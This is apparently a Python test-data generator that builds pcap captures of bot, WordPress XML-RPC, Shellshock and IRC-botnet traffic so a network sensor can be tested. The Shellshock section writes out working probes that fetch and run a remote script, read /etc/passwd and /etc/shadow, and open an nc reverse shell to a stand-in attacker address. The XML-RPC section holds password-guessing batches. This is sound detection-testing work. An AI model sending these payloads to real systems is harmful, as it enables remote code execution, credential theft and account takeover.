#!/usr/bin/python3
"""Writes the bot, XML-RPC, Shellshock and DNS-volume scenario captures.

Each file is one situation the sensor must judge, in real packet formats over full
TCP connections (handshake, data, FIN) or UDP datagrams:

  dns-bot-volume.pcap        a home PC sends 10,200 queries in 50 minutes (limit 10,000 an
                             hour); the resolver it asks forwards 10,500 (exempt as a
                             resolver); a neighbour makes 200
  dns-mx-lookups.pcap        a spam bot looks up the MX of 80 domains in 10 minutes; a mail
                             server the MX of 120 (exempt); a host asks gmail.com's MX 60
                             times; three MX queries over TCP
  wp-pingback-reflection.pcap  36 pingback.ping calls in a minute to a WordPress server in
                             home_net, each naming www.victim.example (a new query string
                             each time), and the server's fetches of the victim
  wp-pingback-victim.pcap    25 WordPress servers "verifying pingback" by fetching one page of
                             a web server in home_net within 30 s; two ordinary visitors
  wp-multicall.pcap          three system.multicall batches of 500 wp.getUsersBlogs (password
                             guesses), one chunked; a mobile app's 3-call batch
  wp-benign.pcap             one real pingback from another blog and its verification, a
                             comment form, a JSON post whose content is JavaScript
  shellshock-http.pcap       12 requests carrying the published probes of CVE-2014-6271,
                             -7169, -6277, -6278, -7186, -7187 in User-Agent, Referer, Cookie,
                             other headers, the URI (percent-encoded), form and JSON bodies;
                             one request with three probes
  shellshock-smtp.pcap       probes in EHLO, in MAIL FROM, in a Subject and in a MIME part's
                             header
  shellshock-padded.pcap     probes past the sensor's header limits: after 300 harmless
                             headers (http max_headers is 128), in a folded line after them,
                             and in a 3,000-byte value (kept values are cut at 1,024)
  benign-headers.pcap        every real User-Agent and Cookie of pcaps/bots/corpus/ in
                             pipelined requests, and bodies of JavaScript (must raise nothing)
  irc-botnet.pcap            12 home_net hosts with bot nicks join #b0tz with a key on one
                             server within 4 minutes
  irc-odd-port.pcap          an IRC session on 5558, another on 7000
  irc-tunnel.pcap            IRC through an open HTTP proxy (CONNECT irc:6667) and an open
                             SOCKS5 (to :5558), with the proxy's own connection to the IRC
                             server, and a worm's GET http://irc.example.net:5558/ probe
  irc-bot-reaction.pcap      a bot given "!scan" by a channel operator scans 25 hosts within
                             8 s; another given ".spam" opens 5 SMTP connections; a person
                             given "!seen" by the channel's Eggdrop browses 12 sites
  irc-stepping-stone.pcap    an open relay in home_net relays a mail, then logs into IRC

Usage: scripts/gen-bots.py OUTDIR   (Debian: apt install python3-scapy; runs /usr/bin/python3)
Deterministic: fixed addresses, ports, sequence numbers and times (2024-02-01T00:00:00Z
onwards); names that look random are derived from a counter.
"""

import json
import os
import sys

from scapy.all import DNS, DNSQR, DNSRR, IP, TCP, UDP, Ether, Raw, wrpcap  # noqa: E402

T0 = 1706745600.0  # 2024-02-01T00:00:00Z
MAC_A, MAC_B = "02:00:00:00:00:01", "02:00:00:00:00:02"
HERE = os.path.dirname(os.path.abspath(__file__))
CORPUS = os.path.join(HERE, "..", "pcaps", "bots", "corpus")


def frame(ip, t):
    p = Ether(src=MAC_A, dst=MAC_B) / ip
    p.time = t
    return p


def udp(src, sport, dst, dport, payload, t):
    return frame(IP(src=src, dst=dst, id=0) / UDP(sport=sport, dport=dport) / Raw(payload), t)


def syn(src, sport, dst, dport, t):
    return frame(IP(src=src, dst=dst, id=0) / TCP(sport=sport, dport=dport, flags="S", seq=7000, window=65535), t)


def tcp_conv(client, cport, server, sport, t, exchanges, step=0.001):
    """A TCP connection: handshake, the exchanges, FIN both ways. An exchange is
    (to_server, bytes) or (to_server, bytes, seconds to wait before it)."""
    cseq, sseq = 1000, 5000
    pkts = []

    def seg(src, dst, sp, dp, flags, seq, ack, data, when):
        p = IP(src=src, dst=dst, id=0) / TCP(sport=sp, dport=dp, flags=flags, seq=seq, ack=ack, window=65535)
        if data:
            p = p / Raw(data)
        return frame(p, when)

    pkts.append(seg(client, server, cport, sport, "S", cseq, 0, b"", t))
    pkts.append(seg(server, client, sport, cport, "SA", sseq, cseq + 1, b"", t + step))
    cseq += 1
    sseq += 1
    pkts.append(seg(client, server, cport, sport, "A", cseq, sseq, b"", t + 2 * step))
    when = t + 3 * step
    for ex in exchanges:
        to_server, data = ex[0], ex[1]
        if len(ex) > 2:
            when += ex[2]
        # Segments of at most 1400 bytes, as a real stack would send.
        for off in range(0, len(data), 1400):
            chunk = data[off:off + 1400]
            if to_server:
                pkts.append(seg(client, server, cport, sport, "PA", cseq, sseq, chunk, when))
                cseq += len(chunk)
            else:
                pkts.append(seg(server, client, sport, cport, "PA", sseq, cseq, chunk, when))
                sseq += len(chunk)
            when += step
    pkts.append(seg(client, server, cport, sport, "FA", cseq, sseq, b"", when))
    pkts.append(seg(server, client, sport, cport, "FA", sseq, cseq + 1, b"", when + step))
    pkts.append(seg(client, server, cport, sport, "A", cseq + 1, sseq + 1, b"", when + 2 * step))
    return pkts


def by_time(pkts):
    pkts.sort(key=lambda p: p.time)
    return pkts


def label(i):
    """A deterministic lower-case label that looks random."""
    x = (i * 2654435761 + 12345) & 0xFFFFFFFF
    s = ""
    for _ in range(8):
        s += "abcdefghijklmnopqrstuvwxyz"[x % 26]
        x //= 26
    return s


# --- DNS -------------------------------------------------------------------------


def query(qid, name, qtype="A"):
    return bytes(DNS(id=qid & 0xFFFF, rd=1, qd=DNSQR(qname=name, qtype=qtype)))


def answer(qid, name, qtype, rdata, rtype="A"):
    return bytes(
        DNS(id=qid & 0xFFFF, qr=1, rd=1, ra=1, qd=DNSQR(qname=name, qtype=qtype),
            an=DNSRR(rrname=name, type=rtype, ttl=300, rdata=rdata))
    )


def dns_bot_volume():
    bot, neighbour, resolver, upstream = "10.20.0.5", "10.20.0.6", "10.20.0.53", "198.51.100.53"
    pkts = []
    for i in range(10200):
        t = T0 + 3000.0 * i / 10200
        pkts.append(udp(bot, 30000 + i % 20000, resolver, 53, query(i, "%s.example.com" % label(i)), t))
    for i in range(10500):
        t = T0 + 0.5 + 3000.0 * i / 10500
        pkts.append(udp(resolver, 40000 + i % 20000, upstream, 53, query(0x8000 + i, "%s.example.org" % label(i + 7)), t))
    for i in range(200):
        t = T0 + 0.7 + 15.0 * i
        pkts.append(udp(neighbour, 50000 + i, resolver, 53, query(0x4000 + i, "www.site%d.example" % (i % 30)), t))
    return by_time(pkts)


def dns_mx_lookups():
    bot, mta, host, resolver = "10.20.0.7", "10.20.0.25", "10.20.0.8", "10.20.0.53"
    pkts = []
    for i in range(80):
        t = T0 + 7.5 * i
        d = "%s.example.net" % label(1000 + i)
        pkts.append(udp(bot, 31000 + i, resolver, 53, query(i, d, "MX"), t))
        pkts.append(udp(resolver, 53, bot, 31000 + i, answer(i, d, "MX", b"\x00\x0a\x02mx" + bytes([len(d.split('.')[0])]) + d.split('.')[0].encode() + b"\x07example\x03net\x00", "MX"), t + 0.01))
        pkts.append(udp(bot, 32000 + i, resolver, 53, query(500 + i, "mx." + d), t + 0.02))
        pkts.append(udp(resolver, 53, bot, 32000 + i, answer(500 + i, "mx." + d, "A", "198.18.%d.25" % i), t + 0.03))
    for i in range(120):
        t = T0 + 0.3 + 5.0 * i
        pkts.append(udp(mta, 33000 + i, resolver, 53, query(1000 + i, "%s.example.com" % label(2000 + i), "MX"), t))
    for i in range(60):
        t = T0 + 0.6 + 10.0 * i
        pkts.append(udp(host, 34000 + i, resolver, 53, query(2000 + i, "gmail.com", "MX"), t))
    # Three MX queries over one TCP connection (RFC 7766), answered.
    ex = []
    for k, d in enumerate(["example.org", "example.com", "example.net"]):
        q = query(3000 + k, d, "MX")
        a = answer(3000 + k, d, "MX", b"\x00\x0a\x04mail" + bytes([len(d.split('.')[0])]) + d.split('.')[0].encode() + b"\x03" + d.split('.')[1].encode() + b"\x00", "MX")
        ex.append((True, len(q).to_bytes(2, "big") + q))
        ex.append((False, len(a).to_bytes(2, "big") + a))
    pkts += tcp_conv("10.20.0.9", 35000, resolver, 53, T0 + 100, ex)
    return by_time(pkts)


# --- HTTP and WordPress XML-RPC ---------------------------------------------------------


def http_request(method, uri, host, headers=(), body=b"", chunked=False):
    lines = ["%s %s HTTP/1.1" % (method, uri), "Host: %s" % host]
    lines += ["%s: %s" % h for h in headers]
    if body and chunked:
        lines.append("Transfer-Encoding: chunked")
        half = len(body) // 2
        enc = b""
        for part in (body[:half], body[half:]):
            enc += b"%x\r\n" % len(part) + part + b"\r\n"
        body = enc + b"0\r\n\r\n"
    elif body:
        lines.append("Content-Length: %d" % len(body))
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1") + body


def http_response(status="200 OK", body=b"", ctype="text/html; charset=UTF-8"):
    return ("HTTP/1.1 %s\r\nServer: Apache/2.4.62 (Debian)\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
            % (status, ctype, len(body))).encode() + body


def xml_string(s):
    return "<param><value><string>%s</string></value></param>" % s


def pingback_call(source, target):
    return ('<?xml version="1.0"?>\n<methodCall>\n<methodName>pingback.ping</methodName>\n<params>\n%s\n%s\n</params>\n</methodCall>\n'
            % (xml_string(source), xml_string(target))).encode()


def fault(code, msg):
    return ('<?xml version="1.0" encoding="UTF-8"?>\n<methodResponse><fault><value><struct>'
            '<member><name>faultCode</name><value><int>%d</int></value></member>'
            '<member><name>faultString</name><value><string>%s</string></value></member>'
            '</struct></value></fault></methodResponse>\n' % (code, msg)).encode()


def multicall(calls):
    body = '<?xml version="1.0"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>'
    for method, params in calls:
        ps = "".join("<value><string>%s</string></value>" % p for p in params)
        body += ('<value><struct><member><name>methodName</name><value><string>%s</string></value></member>'
                 '<member><name>params</name><value><array><data>%s</data></array></value></member></struct></value>'
                 % (method, ps))
    body += "</data></array></value></param></params></methodCall>"
    return body.encode()


WP_UA = "WordPress/4.2.2; http://blog.example.net; verifying pingback from %s"


def wp_pingback_reflection():
    wp, victim = "10.30.0.80", "198.51.100.80"
    attackers = ["203.0.113.10", "203.0.113.11", "203.0.113.12"]
    pkts = []
    for i in range(36):
        t = T0 + 1.6 * i
        src = attackers[i % 3]
        source = "http://www.victim.example/?%d" % (100000 + i * 7919)
        req = http_request("POST", "/xmlrpc.php", "blog.example.net",
                           [("User-Agent", "Mozilla/5.0 (compatible)"), ("Content-Type", "text/xml")],
                           pingback_call(source, "http://blog.example.net/2015/06/hello-world/"))
        pkts += tcp_conv(src, 41000 + i, wp, 80, t,
                         [(True, req), (False, http_response("200 OK", fault(0, ""), "text/xml; charset=UTF-8"), 1.2)])
        # The reflection itself: WordPress fetching the "source".
        fetch = http_request("GET", "/?%d" % (100000 + i * 7919), "www.victim.example",
                             [("User-Agent", WP_UA % src), ("Accept", "*/*")])
        pkts += tcp_conv(wp, 42000 + i, victim, 80, t + 1.0,
                         [(True, fetch), (False, http_response("200 OK", b"<html>victim page</html>"))])
    return by_time(pkts)


def wp_pingback_victim():
    victim = "10.30.0.9"
    pkts = []
    for i in range(25):
        refl = "198.51.100.%d" % (i + 1)
        req = http_request("GET", "/?%d" % (5000 + i * 31), "www.victim.example",
                           [("User-Agent", "WordPress/%s; http://blog%d.example.org; verifying pingback from 203.0.113.10"
                             % (["4.2.2", "3.9.1", "4.1.5"][i % 3], i)), ("Accept-Encoding", "deflate;q=1.0, compress;q=0.5")])
        pkts += tcp_conv(refl, 43000 + i, victim, 80, T0 + 1.2 * i,
                         [(True, req), (False, http_response("200 OK", b"<html>" + b"x" * 900 + b"</html>"))])
    for i, ua in enumerate(["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
                            "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"]):
        req = http_request("GET", "/", "www.victim.example", [("User-Agent", ua)])
        pkts += tcp_conv("203.0.113.%d" % (60 + i), 44000 + i, victim, 80, T0 + 5 + i,
                         [(True, req), (False, http_response("200 OK", b"<html>home</html>"))])
    return by_time(pkts)


def wp_multicall():
    wp = "10.30.0.80"
    pkts = []
    for b in range(3):
        calls = [("wp.getUsersBlogs", ["admin", "%s%d" % (label(b * 1000 + k), k)]) for k in range(500)]
        req = http_request("POST", "/xmlrpc.php", "blog.example.net",
                           [("User-Agent", "Mozilla/4.0 (compatible: MSIE 7.0; Windows NT 6.0)"), ("Content-Type", "text/xml")],
                           multicall(calls), chunked=(b == 1))
        pkts += tcp_conv("203.0.113.20", 45000 + b, wp, 80, T0 + 15.0 * b,
                         [(True, req), (False, http_response("200 OK", fault(403, "Incorrect username or password."), "text/xml"), 2.0)])
    app = multicall([("wp.getUsersBlogs", ["editor", "correct horse"]), ("wp.getOptions", ["1", "editor", "correct horse"]),
                     ("wp.getPostFormats", ["1", "editor", "correct horse"])])
    req = http_request("POST", "/xmlrpc.php", "blog.example.net",
                       [("User-Agent", "wp-android/24.1 (Android 14; en_US; Google Pixel 8)"), ("Content-Type", "text/xml")], app)
    pkts += tcp_conv("10.30.5.5", 46000, wp, 80, T0 + 100,
                     [(True, req), (False, http_response("200 OK", b"<?xml version=\"1.0\"?><methodResponse/>", "text/xml"))])
    return by_time(pkts)


def wp_benign():
    wp, blog = "10.30.0.80", "198.51.100.7"
    pkts = []
    # A real pingback: another blog links to a post here, and the server checks.
    req = http_request("POST", "/xmlrpc.php", "blog.example.net",
                       [("User-Agent", "WordPress/6.4.2; https://other.example.org"), ("Content-Type", "text/xml")],
                       pingback_call("https://other.example.org/2024/01/a-reply/", "http://blog.example.net/2024/01/hello/"))
    pkts += tcp_conv(blog, 47000, wp, 80, T0,
                     [(True, req), (False, http_response("200 OK", b'<?xml version="1.0"?><methodResponse><params><param><value><string>Pingback from https://other.example.org/2024/01/a-reply/ to http://blog.example.net/2024/01/hello/ registered.</string></value></param></params></methodResponse>', "text/xml"), 1.5)])
    fetch = http_request("GET", "/2024/01/a-reply/", "other.example.org", [("User-Agent", WP_UA % blog)])
    pkts += tcp_conv(wp, 47001, blog, 80, T0 + 0.5, [(True, fetch), (False, http_response("200 OK", b'<a href="http://blog.example.net/2024/01/hello/">hello</a>'))])
    # A comment, and a post whose content is code.
    form = b"comment=Nice+post+%28really%29+%7Bthanks%7D&author=Ann&email=ann%40example.org&comment_post_ID=1"
    pkts += tcp_conv("203.0.113.70", 47002, wp, 80, T0 + 10,
                     [(True, http_request("POST", "/wp-comments-post.php", "blog.example.net",
                                          [("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_2) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.2 Safari/605.1.15"),
                                           ("Content-Type", "application/x-www-form-urlencoded")], form)),
                      (False, http_response("302 Found"))])
    post = json.dumps({"title": "Snippets", "content": "<pre>$(function () { init(); });\nvar f = function() { return {a: 1}; };\nmain() { return 0; }\nconst g = () => { x(); };</pre>"}).encode()
    pkts += tcp_conv("10.30.5.6", 47003, wp, 80, T0 + 20,
                     [(True, http_request("POST", "/wp-json/wp/v2/posts", "blog.example.net",
                                          [("User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"),
                                           ("Content-Type", "application/json")], post)),
                      (False, http_response("201 Created", b"{}", "application/json"))])
    return by_time(pkts)


# --- Shellshock ----------------------------------------------------------------------------

P6271 = "() { :; }; /bin/bash -c \"wget http://203.0.113.30/x.sh -O /tmp/x.sh; sh /tmp/x.sh\""
P7169 = "() { (a)=>\\' bash -c \"echo date\""
P6277 = "() { x() { _; }; x() { _; } <<a; }"
P6278 = "() { _; } >_[$($())] { echo hi mom; id; }"
P7186 = "() { _; } " + "<<EOF " * 12
P7187 = "() { " + "for x in ; do " * 8 + ":; " + "done; " * 8 + "}"


def shellshock_http():
    scanner, server = "203.0.113.30", "10.30.0.10"
    ua = ("User-Agent", "Mozilla/5.0 (compatible; scanner)")
    reqs = [
        http_request("GET", "/cgi-bin/status", "www.example.net", [("User-Agent", P6271)]),
        http_request("GET", "/cgi-bin/test.cgi", "www.example.net", [ua, ("Referer", "() { :; }; echo; /bin/cat /etc/passwd")]),
        http_request("GET", "/cgi-bin/php5", "www.example.net", [ua, ("Cookie", "() { :;}; ping -c 1 203.0.113.30")]),
        http_request("GET", "/cgi-bin/test-cgi?q=%28%29%20%7B%20%3A%3B%20%7D%3B%20%2Fusr%2Fbin%2Fid", "www.example.net", [ua]),
        http_request("POST", "/cgi-bin/login.cgi", "www.example.net",
                     [ua, ("Content-Type", "application/x-www-form-urlencoded")],
                     b"user=a&pass=%28%29+%7B+%3A%3B+%7D%3B+%2Fbin%2Funame+-a"),
        http_request("GET", "/", "www.example.net", [ua, ("X-Forwarded-For", P7169)]),
        http_request("GET", "/cgi-bin/a", "www.example.net", [("User-Agent", P6277)]),
        http_request("GET", "/cgi-bin/b", "www.example.net", [ua, ("X-Api-Version", P6278)]),
        http_request("GET", "/cgi-bin/c", "www.example.net", [ua, ("Accept-Language", P7186)]),
        http_request("GET", "/cgi-bin/d", "www.example.net", [ua, ("Accept", P7187)]),
        http_request("GET", "/cgi-bin/e", "www.example.net",
                     [("User-Agent", "() { :; }; /bin/id"), ("Referer", "() { :; }; /bin/id"), ("Cookie", "() { :; }; /bin/id")]),
        http_request("POST", "/api/run", "www.example.net", [ua, ("Content-Type", "application/json")],
                     b'{"cmd": "() { :; }; /bin/nc -e /bin/sh 203.0.113.30 4444"}'),
    ]
    pkts = []
    for i, r in enumerate(reqs):
        pkts += tcp_conv(scanner, 48000 + i, server, 80 if i % 2 == 0 else 8080, T0 + 2.0 * i,
                         [(True, r), (False, http_response("404 Not Found", b"not found"))])
    return by_time(pkts)


def shellshock_padded():
    scanner, server = "203.0.113.32", "10.30.0.10"
    pad = [("X-Pad-%d" % i, "%08x" % (i * 2654435761 % 2**32)) for i in range(300)]
    reqs = [
        http_request("GET", "/cgi-bin/status", "www.example.net", pad + [("User-Agent", P6271)]),
        http_request("GET", "/cgi-bin/test.cgi", "www.example.net",
                     pad + [("Referer", "http://www.example.net/\r\n () { :; }; /bin/cat /etc/shadow")]),
        http_request("GET", "/cgi-bin/env", "www.example.net",
                     [("Cookie", "() { :; }; /bin/echo " + "A" * 3000)]),
        # The same padding and a long value, harmless: nothing.
        http_request("GET", "/index.html", "www.example.net",
                     pad + [("Cookie", "session=" + "B" * 3000), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")]),
    ]
    pkts = []
    for i, r in enumerate(reqs):
        pkts += tcp_conv(scanner, 49000 + i, server, 80, T0 + 2.0 * i,
                         [(True, r), (False, http_response("404 Not Found", b"not found"))])
    return by_time(pkts)


def smtp_session(client, cport, server, t, lines):
    """An SMTP dialogue: the server's greeting, then each client line and its answer."""
    ex = [(False, b"220 mail.example.net ESMTP Postfix (Debian/GNU)\r\n")]
    for cmd, reply in lines:
        ex.append((True, cmd))
        ex.append((False, reply))
    return tcp_conv(client, cport, server, 25, t, ex)


def shellshock_smtp():
    scanner, mx = "203.0.113.31", "10.30.0.25"
    ok = b"250 2.1.0 Ok\r\n"
    pkts = smtp_session(scanner, 49000, mx, T0, [
        (b"EHLO () { :; }; /bin/bash -c 'id > /tmp/x'\r\n", b"250-mail.example.net\r\n250 8BITMIME\r\n"),
        (b"QUIT\r\n", b"221 2.0.0 Bye\r\n"),
    ])

    def mail(cport, t, sender, headers):
        return smtp_session(scanner, cport, mx, t, [
            (b"EHLO scanner.example\r\n", b"250-mail.example.net\r\n250 8BITMIME\r\n"),
            (b"MAIL FROM:<" + sender + b">\r\n", ok),
            (b"RCPT TO:<postmaster@mail.example.net>\r\n", b"250 2.1.5 Ok\r\n"),
            (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n"),
            (headers + b"\r\nhello\r\n.\r\n", b"250 2.0.0 Ok: queued as 4F2A1\r\n"),
            (b"QUIT\r\n", b"221 2.0.0 Bye\r\n"),
        ])
    pkts += mail(49001, T0 + 5, b"() { :;}; wget http://203.0.113.31/b -O /tmp/b", b"From: a@scanner.example\r\nSubject: test\r\n")
    pkts += mail(49002, T0 + 10, b"a@scanner.example", b"From: a@scanner.example\r\nSubject: () { :; }; echo pwned | mail a@scanner.example\r\n")
    mime = (b"From: a@scanner.example\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n"
            b"--b1\r\nContent-Type: text/plain\r\nX-Note: " + P6278.encode() + b"\r\n\r\nbody\r\n--b1--")
    pkts += mail(49003, T0 + 15, b"a@scanner.example", mime)
    return by_time(pkts)


def corpus(name):
    with open(os.path.join(CORPUS, name), encoding="utf-8") as f:
        return [l.rstrip("\n") for l in f if l.strip() and not l.startswith("#")]


def benign_headers():
    client, server = "10.60.0.2", "10.60.0.80"
    uas, cookies = corpus("user-agents.txt"), corpus("cookies.txt")
    pkts = []
    per_conn = 100
    for c in range(0, len(uas), per_conn):
        ex = []
        for i, ua in enumerate(uas[c:c + per_conn]):
            n = c + i
            hdrs = [("User-Agent", ua), ("Accept", "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"),
                    ("Referer", "https://www.example.org/search?q=shell+%28bash%29&src=(direct)")]
            if cookies:
                hdrs.append(("Cookie", cookies[n % len(cookies)]))
            ex.append((True, http_request("GET", "/page/%d?utm_campaign=(not%%20set)" % n, "www.example.net", hdrs)))
            ex.append((False, http_response("200 OK", b"ok")))
        pkts += tcp_conv(client, 50000 + c // per_conn, server, 80, T0 + c, ex)
    js = (b"(function () { 'use strict'; var o = { init() { return 1; } };\n"
          b"$(document).ready(function() { o.init(); }); if (a) { b(); } })();\n")
    pkts += tcp_conv(client, 51000, server, 80, T0 + 1000,
                     [(True, http_request("POST", "/upload", "www.example.net",
                                          [("User-Agent", uas[0]), ("Content-Type", "application/javascript")], js)),
                      (False, http_response("201 Created"))])
    return by_time(pkts)


# --- IRC ------------------------------------------------------------------------------------

IRCD = "198.51.100.66"


def irc_login(nick, user="x", server="irc.example.net"):
    return [
        (True, ("NICK %s\r\nUSER %s 0 * :%s\r\n" % (nick, user, user)).encode()),
        (False, (":%s NOTICE * :*** Looking up your hostname...\r\n:%s 001 %s :Welcome to the IRC network %s\r\n"
                 ":%s 004 %s %s ngircd-26.1 abBcCFiIoqrRswx abehiIklmMnoOPqQrRstvVz\r\n" % (server, server, nick, nick, server, nick, server)).encode(), 0.05),
    ]


def irc_join(nick, channel, key=None, ops=("herder",), server="irc.example.net", topic=None):
    join = "JOIN %s%s\r\n" % (channel, " " + key if key else "")
    names = " ".join(["@" + o for o in ops] + [nick])
    reply = ":%s!x@h JOIN :%s\r\n" % (nick, channel)
    if topic:
        reply += ":%s 332 %s %s :%s\r\n" % (server, nick, channel, topic)
    reply += ":%s 353 %s = %s :%s\r\n:%s 366 %s %s :End of NAMES list\r\n" % (server, nick, channel, names, server, nick, channel)
    return [(True, join.encode(), 0.1), (False, reply.encode(), 0.05)]


def irc_botnet():
    pkts = []
    for i in range(12):
        host = "10.40.0.%d" % (i + 1)
        nick = "[USA|XP]%05d" % ((i * 7919) % 100000)
        ex = irc_login(nick) + irc_join(nick, "#b0tz", key="k3y")
        ex.append((False, b"PING :irc.example.net\r\n", 20.0))
        ex.append((True, b"PONG :irc.example.net\r\n", 0.05))
        pkts += tcp_conv(host, 52000 + i, IRCD, 6667, T0 + 20.0 * i, ex)
    return by_time(pkts)


def irc_odd_port():
    pkts = []
    for i, port in enumerate([5558, 7000]):
        ex = irc_login("alice%d" % i) + irc_join("alice%d" % i, "#chat", ops=("bob",))
        ex.append((True, b"PRIVMSG #chat :hello\r\nQUIT :bye\r\n", 1.0))
        pkts += tcp_conv("10.40.0.30", 53000 + i, IRCD, port, T0 + 10 * i, ex)
    return by_time(pkts)


def irc_tunnel():
    proxy, irc_name = "10.50.0.8", "irc.example.net"
    pkts = []
    session = irc_login("USA|00321") + irc_join("USA|00321", "#c2", key="pw")
    # An open HTTP proxy: CONNECT, 200, then IRC inside; and the proxy's own
    # connection to the IRC server, carrying the same bytes.
    connect = [(True, b"CONNECT irc.example.net:6667 HTTP/1.0\r\n\r\n"),
               (False, b"HTTP/1.0 200 Connection established\r\n\r\n", 0.05)]
    pkts += tcp_conv("203.0.113.40", 54000, proxy, 8080, T0, connect + session)
    pkts += tcp_conv(proxy, 54100, IRCD, 6667, T0 + 0.06, session)
    # An open SOCKS5 server: no authentication, CONNECT 198.51.100.66:5558, granted.
    socks = [(True, b"\x05\x01\x00"), (False, b"\x05\x00", 0.01),
             (True, b"\x05\x01\x00\x01" + bytes([198, 51, 100, 66]) + (5558).to_bytes(2, "big"), 0.01),
             (False, b"\x05\x00\x00\x01" + bytes([10, 50, 0, 8]) + (54101).to_bytes(2, "big"), 0.05)]
    s2 = irc_login("DEU|2K|77123") + irc_join("DEU|2K|77123", "#c2", key="pw")
    pkts += tcp_conv("203.0.113.41", 54001, proxy, 1080, T0 + 30, socks + s2)
    pkts += tcp_conv(proxy, 54101, IRCD, 5558, T0 + 30.1, s2)
    # A worm looking for a proxy to its IRC server.
    probe = http_request("GET", "http://%s:5558/" % irc_name, irc_name, [("User-Agent", "Mozilla/4.0")])
    pkts += tcp_conv("203.0.113.42", 54002, "10.50.0.9", 80, T0 + 60,
                     [(True, probe), (False, http_response("403 Forbidden"))])
    return by_time(pkts)


def irc_bot_reaction():
    pkts = []
    t = T0
    # Bot 1: "!scan" from the channel operator, then SYNs to 25 hosts on 445.
    bot = "10.40.0.20"
    nick = "DEU|XP|51234"
    ex = irc_login(nick) + irc_join(nick, "#cc", ops=("herder",))
    ex.append((False, b":herder!h@203.0.113.99 PRIVMSG #cc :!scan 445 10.40.1.0/24 -s\r\n", 5.0))
    ex.append((False, b"PING :irc.example.net\r\n", 60.0))
    ex.append((True, b"PONG :irc.example.net\r\n", 0.05))
    pkts += tcp_conv(bot, 55000, IRCD, 6667, t, ex)
    cmd_at = t + 0.003 + 0.05 + 0.1 + 0.05 + 5.0 + 0.01
    for i in range(25):
        pkts.append(syn(bot, 56000 + i, "10.40.1.%d" % (i + 1), 445, cmd_at + 2.0 + 0.25 * i))
    # Bot 2: ".spam" in a private message from the operator, then 5 SMTP connections.
    bot2, nick2 = "10.40.0.21", "FRA|W7|80017"
    ex = irc_login(nick2) + irc_join(nick2, "#cc", key="s3cr3t", ops=("herder",))
    ex.append((False, (":herder!h@203.0.113.99 PRIVMSG %s :.spam start http://203.0.113.99/list.txt\r\n" % nick2).encode(), 3.0))
    ex.append((False, b"PING :irc.example.net\r\n", 60.0))
    ex.append((True, b"PONG :irc.example.net\r\n", 0.05))
    pkts += tcp_conv(bot2, 55001, IRCD, 6667, t + 100, ex)
    cmd2 = t + 100 + 0.003 + 0.05 + 0.1 + 0.05 + 3.0 + 0.01
    for i in range(5):
        pkts.append(syn(bot2, 57000 + i, "198.18.%d.25" % i, 25, cmd2 + 1.0 + i))
    # A person: the channel's Eggdrop answers "!seen", then they browse.
    human = "10.40.0.22"
    ex = irc_login("alice") + irc_join("alice", "#linux", ops=("Eggdrop",))
    ex.append((True, b"PRIVMSG #linux :!seen bob\r\n", 2.0))
    ex.append((False, b":Eggdrop!egg@bot.example PRIVMSG #linux :!seen bob: last seen 2 hours ago\r\n", 0.2))
    ex.append((False, b"PING :irc.example.net\r\n", 60.0))
    ex.append((True, b"PONG :irc.example.net\r\n", 0.05))
    pkts += tcp_conv(human, 55002, IRCD, 6667, t + 200, ex)
    for i in range(12):
        pkts.append(syn(human, 58000 + i, "203.0.113.%d" % (100 + i), 443, t + 200 + 3.0 + 0.5 * i))
    return by_time(pkts)


def irc_stepping_stone():
    relay = "10.50.0.25"
    pkts = smtp_session("203.0.113.50", 59000, relay, T0, [
        (b"EHLO spammer.example\r\n", b"250-mail.example.net\r\n250 8BITMIME\r\n"),
        (b"MAIL FROM:<offers@spammer.example>\r\n", b"250 2.1.0 Ok\r\n"),
        (b"RCPT TO:<someone@yahoo.example>\r\n", b"250 2.1.5 Ok\r\n"),
        (b"DATA\r\n", b"354 End data with <CR><LF>.<CR><LF>\r\n"),
        (b"From: offers@spammer.example\r\nSubject: offer\r\n\r\nbuy\r\n.\r\n", b"250 2.0.0 Ok: queued as 9C1\r\n"),
        (b"QUIT\r\n", b"221 2.0.0 Bye\r\n"),
    ])
    ex = irc_login("mailhost") + irc_join("mailhost", "#ops")
    pkts += tcp_conv(relay, 59001, IRCD, 6667, T0 + 300, ex)
    # Another home host on the same server: nothing wrong with it.
    pkts += tcp_conv("10.50.0.26", 59002, IRCD, 6667, T0 + 310, irc_login("carol") + irc_join("carol", "#ops"))
    return by_time(pkts)


SCENARIOS = {
    "dns-bot-volume.pcap": dns_bot_volume,
    "dns-mx-lookups.pcap": dns_mx_lookups,
    "wp-pingback-reflection.pcap": wp_pingback_reflection,
    "wp-pingback-victim.pcap": wp_pingback_victim,
    "wp-multicall.pcap": wp_multicall,
    "wp-benign.pcap": wp_benign,
    "shellshock-http.pcap": shellshock_http,
    "shellshock-smtp.pcap": shellshock_smtp,
    "shellshock-padded.pcap": shellshock_padded,
    "benign-headers.pcap": benign_headers,
    "irc-botnet.pcap": irc_botnet,
    "irc-odd-port.pcap": irc_odd_port,
    "irc-tunnel.pcap": irc_tunnel,
    "irc-bot-reaction.pcap": irc_bot_reaction,
    "irc-stepping-stone.pcap": irc_stepping_stone,
}


def main():
    if len(sys.argv) < 2:
        sys.exit(__doc__)
    out = sys.argv[1]
    only = sys.argv[2:]
    os.makedirs(out, exist_ok=True)
    for name, make in SCENARIOS.items():
        if only and name not in only:
            continue
        pkts = make()
        wrpcap(os.path.join(out, name), pkts)
        print("%s: %d packets" % (name, len(pkts)))


if __name__ == "__main__":
    main()
